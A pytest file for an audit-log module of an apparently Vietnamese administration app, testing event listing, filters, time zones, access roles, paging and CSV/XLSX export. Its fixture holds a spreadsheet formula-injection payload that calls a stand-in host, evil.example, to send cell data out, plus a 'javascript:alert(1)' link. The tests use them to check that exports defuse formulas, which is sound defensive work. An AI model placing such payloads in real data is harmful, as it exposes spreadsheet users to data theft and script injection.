"""Audit log: every login, failed login, logout and change, filtered by user, date (Vietnam time) and kind; export."""
from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest

from data_model.accounts.login import authenticate
from data_model.accounts.users import create_user, record_logout
from data_model.audit.changelog import log_change
from data_model.audit.log import AuditError, AuditFilters, count_audit, export_audit, list_audit, list_audit_kinds
from data_model.audit.wording import describe_values
from data_model.basics.permissions import SYSTEM, Actor, PermissionDenied
from data_model.schema.models import ChangeLog

OFFICIAL = Actor(user_id=None, username="ld", role="official")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")'


@pytest.fixture
def logged(session):
    """A small log: user creation, a login, a failed login, a logout and a record edit with a formula-like note."""
    create_user(session=session, actor=SYSTEM, username="nva", password="mat-khau-1", role="staff",
                unit_keys=["st_dao_san"])
    session.commit()
    actor = authenticate(engine=session.get_bind(), username="nva", password="mat-khau-1").actor
    authenticate(engine=session.get_bind(), username="nva", password="sai-mat-khau")
    log_change(session=session, actor=actor, action="update", entity="record", entity_id=7,
               old={"note": "cũ"}, new={"note": "[bấm](javascript:alert(1))"}, reason=EVIL)
    record_logout(session=session, actor=actor)
    session.commit()
    return actor


def _actions(frame) -> list[str]:
    return list(frame["action"])


def test_every_event_is_listed_newest_first(session, logged):
    frame = list_audit(session=session, actor=SYSTEM, filters=AuditFilters())
    assert _actions(frame) == ["logout", "update", "login_failed", "login", "create"]
    assert set(frame["action_name"]) >= {"Đăng nhập", "Đăng nhập sai", "Đăng xuất", "Sửa", "Tạo mới"}
    assert count_audit(session=session, actor=SYSTEM, filters=AuditFilters()) == 5


@pytest.mark.parametrize("filters, expected", [
    (AuditFilters(username="nva"), ["logout", "update", "login_failed", "login"]),
    (AuditFilters(username="system"), ["create"]),
    (AuditFilters(actions=("login", "login_failed")), ["login_failed", "login"]),
    (AuditFilters(entities=("record",)), ["update"]),
    (AuditFilters(username="nva", actions=("logout",)), ["logout"]),
    (AuditFilters(username="khong-ai"), []),
])
def test_filters(session, logged, filters, expected):
    assert _actions(list_audit(session=session, actor=OFFICIAL, filters=filters)) == expected


def test_date_range_is_in_vietnam_time(session):
    # 18:30 UTC on 1 March is 01:30 on 2 March in Lai Châu
    session.add(ChangeLog(at=dt.datetime(2026, 3, 1, 18, 30), username="a", action="create", entity="record"))
    session.add(ChangeLog(at=dt.datetime(2026, 3, 1, 16, 59), username="b", action="create", entity="record"))
    session.commit()
    day = dt.date(2026, 3, 2)
    frame = list_audit(session=session, actor=SYSTEM, filters=AuditFilters(date_from=day, date_to=day))
    assert list(frame["username"]) == ["a"]
    assert frame["at"].iloc[0] == dt.datetime(2026, 3, 2, 1, 30)
    earlier = list_audit(session=session, actor=SYSTEM, filters=AuditFilters(date_to=dt.date(2026, 3, 1)))
    assert list(earlier["username"]) == ["b"]
    with pytest.raises(AuditError, match="Khoảng ngày"):
        list_audit(session=session, actor=SYSTEM, filters=AuditFilters(date_from=day, date_to=dt.date(2026, 3, 1)))


@pytest.mark.parametrize("role", ["staff", "planner"])
def test_only_admins_and_officials_read_the_log(session, logged, role):
    other = Actor(user_id=None, username="x", role=role)
    with pytest.raises(PermissionDenied):
        list_audit(session=session, actor=other, filters=AuditFilters())
    with pytest.raises(PermissionDenied):
        export_audit(session=session, actor=other, filters=AuditFilters(), fmt="csv")


def test_paging(session):
    for i in range(12):
        session.add(ChangeLog(at=dt.datetime(2026, 1, 1, 0, i), username=f"u{i:02d}", action="create"))
    session.commit()
    page2 = list_audit(session=session, actor=SYSTEM, filters=AuditFilters(), limit=5, offset=5)
    assert list(page2["username"]) == ["u06", "u05", "u04", "u03", "u02"]


def test_csv_export_defuses_formulas(session, logged):
    data = export_audit(session=session, actor=SYSTEM, filters=AuditFilters(entities=("record",)), fmt="csv")
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    header = text.splitlines()[0]
    assert header.startswith("Thời gian (giờ Việt Nam),Người dùng,Thao tác")
    assert "'=HYPERLINK" in text  # a cell that would start with "=" starts with an apostrophe instead
    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text


def test_xlsx_export_keeps_text_as_text(session, logged):
    data = export_audit(session=session, actor=SYSTEM, filters=AuditFilters(entities=("record",)), fmt="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.cell(1, 1).value == "Thời gian (giờ Việt Nam)"
    new_values = [sheet.cell(2, c) for c in range(1, sheet.max_column + 1) if "HYPERLINK" in str(sheet.cell(2, c).value)]
    assert new_values and all(c.data_type == "s" for c in new_values)
    assert isinstance(sheet.cell(2, 1).value, dt.datetime)


def test_bad_export_format(session):
    with pytest.raises(AuditError):
        export_audit(session=session, actor=SYSTEM, filters=AuditFilters(), fmt="pdf")


def test_values_are_readable(session, logged):
    frame = list_audit(session=session, actor=SYSTEM, filters=AuditFilters(entities=("record",)))
    assert (frame["old_values"].iloc[0], frame["new_values"].iloc[0]) == ("Ghi chú: cũ",
                                                                          "Ghi chú: [bấm](javascript:alert(1))")
    created = list_audit(session=session, actor=SYSTEM, filters=AuditFilters(actions=("create",)))
    said = created["new_values"].iloc[0]
    assert "Vai trò: Cán bộ nhập liệu" in said and "Đang hoạt động: có" in said, said
    assert "role" not in said and "staff" not in said and "active" not in said
    english = list_audit(session=session, actor=SYSTEM, filters=AuditFilters(actions=("create",)), lang="en")
    assert "Role: Data entry staff" in english["new_values"].iloc[0]


def test_record_values_say_their_fields_dates_and_figures_in_words():
    text = ('{"attendances": 1200, "end_date": "2024-03-05", "sessions": 3, "type_code": "outreach_session", '
            '"units": "st_dao_san", "village_id": null}')
    said = describe_values(text, "vi", names={"st_dao_san": "Đồn Biên phòng Dào San"})
    assert said == ("Lượt người nghe: 1.200; Ngày kết thúc: 05/03/2024; Số buổi: 3; "
                    "Loại hoạt động: Tuyên truyền tại bản; Đơn vị: Đồn Biên phòng Dào San; Bản: —")
    assert describe_values("không phải JSON", "vi") == "không phải JSON"


def test_kinds_present(session, logged):
    actions, entities = list_audit_kinds(session=session, actor=SYSTEM)
    assert actions == ["create", "update", "login", "login_failed", "logout"]
    assert entities == ["record", "user"]
